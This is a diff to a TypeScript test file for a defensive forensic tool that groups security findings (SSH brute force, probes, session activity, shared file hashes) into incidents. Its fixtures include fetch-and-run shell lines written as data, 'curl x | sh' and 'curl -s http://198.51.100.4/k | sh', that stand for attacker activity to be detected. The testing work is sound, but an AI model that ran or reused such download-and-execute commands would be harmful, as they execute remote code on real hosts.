@@ -3,15 +3,19 @@
  * system and writable folders, root, a reused pid), every finding in exactly one incident,
  * determinism under shuffled input, the story's order and gaps, hostile text kept one line.
  */
+import { createHash } from 'node:crypto';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { IncidentsFileSchema } from '../../src/evidence/bundle-schemas.js';
 import type { AccountRecord } from '../../src/model/access.js';
+import type { ChangedFile, SetuidFile } from '../../src/model/activity.js';
 import type { AuthLoginRecord } from '../../src/model/auth.js';
 import type { KnownFacts } from '../../src/model/facts.js';
 import type { Finding, FindingSubject, Severity } from '../../src/model/finding.js';
 import type { IncidentsFile } from '../../src/model/incident.js';
+import type { SessionRecord } from '../../src/model/logins.js';
 import { buildIncidents } from '../../src/story/incidents.js';
+import { sessionActivity } from '../../src/story/sessions.js';
 import { isSpecificFolder } from '../../src/story/subjects.js';
 import { proc } from '../helpers/records.js';
 
@@ -185,6 +189,149 @@ describe('join reasons', () => {
   });
 });
 
+describe('addresses that only attacked: one campaign, however many', () => {
+  const T0 = Date.UTC(2026, 10, 22, 0, 0, 0);
+  const at = (s: number) => new Date(T0 + s * 1000).toISOString();
+  const ip = (i: number) => `198.${18 + Math.floor(i / 65536)}.${Math.floor(i / 256) % 256}.${i % 256}`;
+  const BRUTE = 3000;
+  const SWEEP = 200;
+  const PROBE = 100;
+  /** The first nine addresses are the busiest after the btmp one; the others fail 10 to 59 times. */
+  const failuresOf = (i: number) => (i < 9 ? 1000 - i * 10 : 10 + (i % 50));
+
+  function scene() {
+    const attack: Finding[] = [];
+    for (let i = 0; i < BRUTE; i++) {
+      attack.push(finding('auth.bruteforce', { ip: ip(i), failures: failuresOf(i), firstFailure: at(60 + i), lastFailure: at(120 + i), acceptedLogins: 0 }, { severity: i % 7 === 0 ? 'high' : 'medium', mitre: ['T1110', 'T1110.001'], evidence: ['artifacts/auth-tally.json'] }));
+      // Every tenth address also holds a flood of connections the sshd processes name no user for.
+      if (i % 10 === 0) attack.push(finding('network.ssh-inbound-flood', { ip: ip(i), connections: 12, users: [], sshdPids: [] }, { severity: 'medium', mitre: ['T1110'], evidence: ['artifacts/ssh-view.json'] }));
+    }
+    for (let i = BRUTE; i < BRUTE + SWEEP; i++) attack.push(finding('auth.enumeration', { ip: ip(i), invalidUsers: 15, failures: 0, acceptedLogins: 0 }, { severity: 'low', mitre: ['T1110.003'] }));
+    for (let i = BRUTE + SWEEP; i < BRUTE + SWEEP + PROBE; i++) attack.push(finding('auth.probe', { ip: ip(i), probes: 25, failures: 0 }, { severity: 'low', mitre: ['T1046'] }));
+    // The busiest address of all, and the first and the last.
+    attack.push(finding('login.btmp-bruteforce', { ip: '203.0.113.250', failures: 9000, firstFailure: at(5), lastFailure: at(86_000) }, { severity: 'high', mitre: ['T1110'] }));
+
+    const login: AuthLoginRecord = { time: at(4000), user: 'deploy', address: '203.0.113.7', port: 1, method: 'password', key: null, host: null, program: 'sshd', pid: 1, source: '/var/log/auth.log', lineNo: 9, logout: null, failuresFromAddress: { count: 40, first: null, last: null }, failuresForUser: { count: 40, first: null, last: null, addresses: 1, addressesCapped: false } };
+    const keyLogin: AuthLoginRecord = { ...login, address: '203.0.113.8', method: 'publickey', user: 'alice', time: at(5000) };
+    const wtmp: SessionRecord = { user: 'bob', line: 'pts/1', host: '::ffff:203.0.113.9', addr: '::ffff:203.0.113.9', pid: 2, login: at(6000), logout: at(6100), end: 'logout', source: 'wtmp', file: '/var/log/wtmp' };
+    const own = {
+      // Brute force, then a login flagged by a rule: the login thread stays its own incident.
+      brute7: finding('auth.bruteforce', { ip: '203.0.113.7', failures: 40, firstFailure: at(3000), lastFailure: at(3990), acceptedLogins: 1 }, { severity: 'medium' }),
+      login7: finding('auth.login-after-failures', { ip: '203.0.113.7', user: 'deploy', time: login.time, failuresBefore: 40, method: 'password' }, { severity: 'critical' }),
+      // Logged in with a key no rule flags: the auth log's login keeps it out.
+      brute8: finding('auth.bruteforce', { ip: '203.0.113.8', failures: 30, firstFailure: at(4500), lastFailure: at(4900), acceptedLogins: 0 }, { severity: 'medium' }),
+      // A login record from it (IPv4-mapped in wtmp).
+      brute9: finding('auth.bruteforce', { ip: '203.0.113.9', failures: 30, firstFailure: at(5500), lastFailure: at(5900), acceptedLogins: 0 }, { severity: 'medium' }),
+      // Another finding shares the address: root's key was accepted from it.
+      brute10: finding('auth.bruteforce', { ip: '203.0.113.10', failures: 30, firstFailure: at(7000), lastFailure: at(7100), acceptedLogins: 0 }, { severity: 'medium' }),
+      refused10: finding('auth.root-login-refused', { ip: '203.0.113.10', user: 'root', refused: 2 }, { severity: 'high' }),
+      // The tally counts a login the logins step did not list.
+      brute11: finding('auth.bruteforce', { ip: '203.0.113.11', failures: 30, firstFailure: at(8000), lastFailure: at(8100), acceptedLogins: 2 }, { severity: 'medium' }),
+      // A flood whose sshd processes name a logged-in user.
+      flood12: finding('network.ssh-inbound-flood', { ip: '203.0.113.12', connections: 14, users: ['carol'], sshdPids: [3] }, { severity: 'medium' }),
+    };
+    const fs = renumber([...attack, ...Object.values(own)]);
+    const ids = Object.fromEntries(Object.keys(own).map((k, i) => [k, fs[attack.length + i]!.id])) as Record<keyof typeof own, string>;
+    const facts: KnownFacts = { authLogins: [login, keyLogin], sessions: [wtmp], accounts: [account('deploy', 1001), account('alice', 1002), account('bob', 1003)] };
+    return { fs, facts, attack: fs.slice(0, attack.length), ids };
+  }
+
+  it('thousands of addresses that never logged in are one incident; an address that logged in keeps its own', () => {
+    const { fs, facts, attack, ids } = scene();
+    const r = buildIncidents(fs, facts);
+    checkPartition(r, fs);
+    const campaign = incidentOf(r, attack[0]!.id);
+    expect(campaign.findings).toEqual(attack.map((f) => f.id));
+    const addresses = BRUTE + SWEEP + PROBE + 1;
+    expect(campaign.title).toBe(`Brute force, user-name sweeps and probing from ${addresses} addresses (no login)`);
+    expect(campaign.subjects.addresses).toHaveLength(addresses);
+    expect(campaign.severity).toBe('high');
+    // One join per address past the first (the flood of an address joins its brute force by the address).
+    expect(campaign.joins.filter((j) => j.reason === 'attack-only')).toHaveLength(addresses - 1);
+    expect(campaign.joins.filter((j) => j.reason === 'same-address')).toHaveLength(BRUTE / 10);
+    expect(campaign.joins.find((j) => j.reason === 'attack-only')!.value).toBe(`${ip(1)} (no login)`);
+    // The campaign plus: the login thread, the key login, the login record, the refused root key with its brute force, the tally's login, the flood with a user.
+    expect(r.incidents).toHaveLength(7);
+    expect(incidentOf(r, ids.login7).findings).toEqual([ids.brute7, ids.login7]);
+    expect(incidentOf(r, ids.refused10).findings).toEqual([ids.brute10, ids.refused10]);
+    for (const k of ['brute8', 'brute9', 'brute11', 'flood12'] as const) expect(incidentOf(r, ids[k]).findings).toEqual([ids[k]]);
+    // The login thread is the main incident; the campaign comes after the incidents of its severity, however big.
+    expect(r.main).toBe(incidentOf(r, ids.login7).id);
+    expect(r.incidents.map((i) => i.id).indexOf(campaign.id)).toBe(2);
+    expect(incidentOf(r, ids.refused10).severity).toBe('high');
+  });
+
+  it('its story is short: the counts, the first failure, the most active addresses, the last failure', () => {
+    const { fs, facts, attack } = scene();
+    const campaign = incidentOf(buildIncidents(fs, facts), attack[0]!.id);
+    const failures = Array.from({ length: BRUTE }, (_, i) => failuresOf(i)).reduce((a, b) => a + b, 0) + 9000;
+    expect(campaign.story.map((l) => [l.time, l.tactic, l.text])).toEqual([
+      [at(5), 'credential-access', `${BRUTE + SWEEP + PROBE + 1} addresses attacked ssh and none logged in: ${failures} failed logins, ${SWEEP * 15} user names that are not accounts, ${PROBE * 25} connections ended before authenticating, ${(BRUTE / 10) * 12} concurrent connections held open`],
+      [at(5), 'credential-access', `the first: 203.0.113.250 at ${at(5).slice(0, 19).replace('T', ' ')} (9000 failed logins)`],
+      [null, 'credential-access', `the most active: 203.0.113.250 (9000 failed logins); ${ip(0)} (1000 failed logins, 12 open connections); ${[1, 2, 3, 4, 5, 6, 7, 8].map((i) => `${ip(i)} (${1000 - i * 10} failed logins)`).join('; ')}; and ${BRUTE + SWEEP + PROBE + 1 - 10} more addresses`],
+      [at(86_000), 'credential-access', `the last: 203.0.113.250 at ${at(86_000).slice(0, 19).replace('T', ' ')} (9000 failed logins)`],
+    ]);
+    expect(campaign.story[0]!.findings).toHaveLength(attack.length);
+    expect(campaign.first).toBe(at(5));
+    expect(campaign.last).toBe(at(86_000));
+  });
+
+  it('the same incidents whatever the order of the findings', () => {
+    const { fs, facts } = scene();
+    const r = buildIncidents(fs, facts);
+    let x = 12345;
+    const shuffled = [...fs];
+    for (let i = shuffled.length - 1; i > 0; i--) {
+      x = (Math.imul(x, 1103515245) + 12345) | 0;
+      const j = Math.abs(x) % (i + 1);
+      [shuffled[i], shuffled[j]] = [shuffled[j]!, shuffled[i]!];
+    }
+    expect(buildIncidents(shuffled, facts)).toEqual(r);
+  });
+
+  it('one address alone is not a campaign: it keeps its own title and story', () => {
+    const fs = renumber([finding('auth.bruteforce', { ip: '192.0.2.44', failures: 30, firstFailure: at(0), lastFailure: at(60) }, { severity: 'medium' })]);
+    const r = buildIncidents(fs, {});
+    expect(r.incidents).toHaveLength(1);
+    expect(r.incidents[0]!.title).toBe('SSH brute force from 192.0.2.44');
+  });
+});
+
+describe('sessions: one derivation with session-activity', () => {
+  const T = (hms: string) => `2026-11-22T${hms}.000Z`;
+  const wtmp: SessionRecord = { user: 'deploy', line: 'pts/0', host: '::ffff:127.0.0.3', addr: '::ffff:127.0.0.3', pid: 4100, login: T('22:26:12'), logout: T('22:40:12'), end: 'logout', source: 'wtmp', file: '/var/log/wtmp' };
+  // The auth log saw the login 4 s earlier and no PAM close (rotated away): one session all the same, ended by wtmp.
+  const accepted: AuthLoginRecord = { time: T('22:26:08'), user: 'deploy', address: '127.0.0.3', port: 40000, method: 'password', key: null, host: 'web', program: 'sshd', pid: 4100, source: '/var/log/auth.log', lineNo: 497, logout: null, failuresFromAddress: { count: 30, first: null, last: null }, failuresForUser: { count: 30, first: null, last: null, addresses: 1, addressesCapped: false } };
+  // A console login of the same account: not an ssh session for either view.
+  const console_: SessionRecord = { ...wtmp, line: 'tty1', host: '', addr: null, login: T('22:50:00'), logout: null, end: 'still-logged-in', source: 'utmp' };
+  const during = proc({ pid: 7001, uid: 1001, user: 'deploy', comm: 'pscan2', exe: '/srv/k1/pscan2', cwd: '/', startTime: T('22:30:00'), startTicks: 1 });
+  const after = proc({ pid: 7002, uid: 1001, user: 'deploy', comm: 'miner', exe: '/srv/k2/miner', cwd: '/', startTime: T('23:30:00'), startTicks: 2 });
+  const facts: KnownFacts = { accounts: [account('deploy', 1001)], sessions: [wtmp, console_], authLogins: [accepted], processes: [during, after] };
+  const fs = renumber([
+    finding('auth.login-after-failures', { ip: '127.0.0.3', user: 'deploy', time: accepted.time, failuresBefore: 30, method: 'password' }, { severity: 'critical' }),
+    // Tied by the history step to the wtmp record of the session: the same session as the auth log's login.
+    finding('activity.download-execute', { path: '/home/deploy/.bash_history', line: 3, user: 'deploy', command: 'curl x | sh', time: T('22:27:00'), session: { source: 'wtmp', user: 'deploy', login: wtmp.login, logout: wtmp.logout, address: wtmp.addr, line: 'pts/0' } }),
+    finding('process.known-tool', procSubject(during)),
+    finding('process.known-tool', procSubject(after)),
+  ]);
+
+  it('the span incidents join in is the span session-activity lists', () => {
+    const activity = sessionActivity(facts, fs);
+    expect(activity.sessions).toHaveLength(1);
+    const listed = activity.sessions[0]!;
+    expect(listed).toMatchObject({ start: wtmp.login, end: wtmp.logout, method: 'password' });
+    const r = buildIncidents(fs, facts);
+    const inc = incidentOf(r, fs[0]!.id);
+    expect(inc.findings).toEqual(fs.map((f) => f.id));
+    const inSession = inc.joins.filter((j) => j.reason === 'in-session');
+    // The login (by the auth log's time), the history entry (by the wtmp record) and the process started while it was open.
+    expect(inSession.map((j) => j.b)).toEqual([fs[1]!.id, fs[2]!.id]);
+    expect(inSession[0]!.value).toBe(`deploy from ::ffff:127.0.0.3 2026-11-22 22:26:12–22:40:12 UTC`);
+    // Started after wtmp's logout: the auth log alone would have left the session open; the one derivation does not.
+    expect(inc.joins.find((j) => j.b === fs[3]!.id)).toMatchObject({ reason: 'same-account' });
+  });
+});
+
 describe('never joined on coincidence', () => {
   it('two processes in /tmp are not one incident because both are in /tmp', () => {
     const a = proc({ pid: 20, comm: 'a', exe: '/tmp/a', cwd: '/tmp' });
@@ -215,6 +362,60 @@ describe('never joined on coincidence', () => {
     const empty = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';
     const fs = [finding('file.new-executable', { path: '/srv/a/x', sha256: empty }), finding('file.new-executable', { path: '/srv/b/y', sha256: empty })];
     expect(buildIncidents(fs, {}).incidents).toHaveLength(2);
+  });
+
+  describe('the same sha256 on tiny or trivial content', () => {
+    const sha = (text: string) => createHash('sha256').update(text).digest('hex');
+    const changed = (p: string, content: string, size = Buffer.byteLength(content)) =>
+      ({ path: p, type: 'file', linkTarget: null, mode: 0o755, uid: 0, gid: 0, size, ino: '1', atime: null, mtime: '2026-11-22T22:00:00.000Z', ctime: '2026-11-22T22:00:00.000Z', btime: null, inWindow: ['mtime'], executable: 'script', sha256: sha(content), md5: null, writableDir: '/tmp', hiddenDir: null, area: '/tmp' }) as unknown as ChangedFile;
+    const setuid = (p: string, content: string) =>
+      ({ path: p, mode: 0o4755, uid: 0, gid: 0, size: Buffer.byteLength(content), mtime: '2026-11-22T22:00:00.000Z', ctime: '2026-11-22T22:00:00.000Z', btime: null, sha256: sha(content), package: null, packaged: false }) as unknown as SetuidFile;
+
+    /** 4,300 identical scripts, each in its own folder of a temp tree, and a setuid file with the same bytes. */
+    function scene(content: string) {
+      const scripts = Array.from({ length: 4300 }, (_, i) => changed(`/tmp/build/pkg${i}/run`, content));
+      const stub = setuid('/srv/s/stub', content);
+      const fs = renumber([...scripts.map((c) => finding('file.new-executable', { path: c.path, uid: 0, sha256: c.sha256, mtime: c.mtime })), finding('file.setuid-unpackaged', { path: stub.path, uid: 0, sha256: stub.sha256 })]);
+      return { fs, facts: { changedFiles: scripts, setuidFiles: [stub] } as KnownFacts };
+    }
+
+    it('a few-byte stub shared by 4,300 scripts and a setuid file joins nothing', () => {
+      const { fs, facts } = scene('#!/bin/sh\necho ok\n');
+      const r = buildIncidents(fs, facts);
+      expect(r.incidents).toHaveLength(fs.length);
+      expect(r.incidents.every((i) => i.findings.length === 1 && i.joins.length === 0)).toBe(true);
+      expect(r.incidents.flatMap((i) => i.subjects.sha256)).toEqual([]);
+    });
+
+    it('the same bytes past the minimum size do join: the control of the test above', () => {
+      const { fs, facts } = scene(`#!/bin/sh\n${'# kit loader '.repeat(8)}\ncurl -s http://198.51.100.4/k | sh\n`);
+      const r = buildIncidents(fs, facts);
+      expect(r.incidents).toHaveLength(1);
+      expect(r.incidents[0]!.findings).toHaveLength(4301);
+      expect(new Set(r.incidents[0]!.joins.map((j) => j.reason))).toEqual(new Set(['same-executable']));
+    });
+
+    it('trivial content never joins, whatever size a fact claims; a file hash of unknown size does not either', () => {
+      const trivial = sha('#!/bin/sh\nexit 0\n');
+      const lying = [changed('/srv/a/x', '#!/bin/sh\nexit 0\n', 4096), changed('/srv/b/y', '#!/bin/sh\nexit 0\n', 4096)];
+      const fs = renumber([finding('file.new-executable', { path: '/srv/a/x', sha256: trivial }), finding('file.new-executable', { path: '/srv/b/y', sha256: trivial })]);
+      expect(buildIncidents(fs, { changedFiles: lying }).incidents).toHaveLength(2);
+      const unknown = renumber([finding('yara.match', { path: '/srv/c/z', sha256: 'e'.repeat(64) }), finding('yara.match', { path: '/srv/d/w', sha256: 'e'.repeat(64) })]);
+      expect(buildIncidents(unknown, {}).incidents).toHaveLength(2);
+      // The finding's own size counts when the facts have none.
+      const sized = unknown.map((f) => ({ ...f, subject: { ...f.subject, size: 70_000 } }));
+      expect(buildIncidents(sized, {}).incidents).toHaveLength(1);
+    });
+
+    it('a live process whose executable is a tiny file shares nothing with its copies', () => {
+      const content = '\x7fELF tiny';
+      const a = proc({ pid: 60, comm: 'a', exe: '/srv/x/a', cwd: '/', exeSha256: sha(content) });
+      const b = proc({ pid: 61, comm: 'b', exe: '/opt/y/b', cwd: '/', exeSha256: sha(content) });
+      const fs = renumber([finding('process.known-tool', procSubject(a)), finding('process.known-tool', procSubject(b))]);
+      expect(buildIncidents(fs, { processes: [a, b], changedFiles: [changed('/srv/x/a', content)] }).incidents).toHaveLength(2);
+      // Without a size the executable of a live process is trusted: the kernel runs binaries, not stubs.
+      expect(buildIncidents(fs, { processes: [a, b] }).incidents).toHaveLength(1);
+    });
   });
 
   it('/etc/passwd is not a shared subject: two new accounts are two incidents', () => {
@@ -271,10 +472,10 @@ describe('chains, ties, partition, determinism', () => {
 
   it('every finding in exactly one incident, and the same incidents whatever the order (fast-check)', () => {
     const paths = ['/tmp/.. /a', '/tmp/.. /b', '/tmp/c', '/dev/shm/.k/d', '/etc/passwd', '/home/u/.x/e', null];
-    const ips = ['127.0.0.3', '198.51.100.2', null];
+    const ips = ['127.0.0.3', '198.51.100.2', '203.0.113.5', '203.0.113.6', null];
     const users = ['deploy', 'root', 'www-data', 'alice', null];
     const procs = [scanner, shell, proc({ pid: 77, ppid: 5617, comm: 'k', exe: '/dev/shm/.k/d', cwd: '/', startTicks: 9500, user: 'alice' })];
-    const rules = ['process.known-tool', 'file.new-executable', 'auth.bruteforce', 'persistence.cron', 'activity.download-execute'];
+    const rules = ['process.known-tool', 'file.new-executable', 'auth.bruteforce', 'auth.probe', 'auth.enumeration', 'persistence.cron', 'activity.download-execute'];
     const severities: Severity[] = ['low', 'medium', 'high', 'critical'];
     const arbFinding = fc.record({
       rule: fc.constantFrom(...rules),
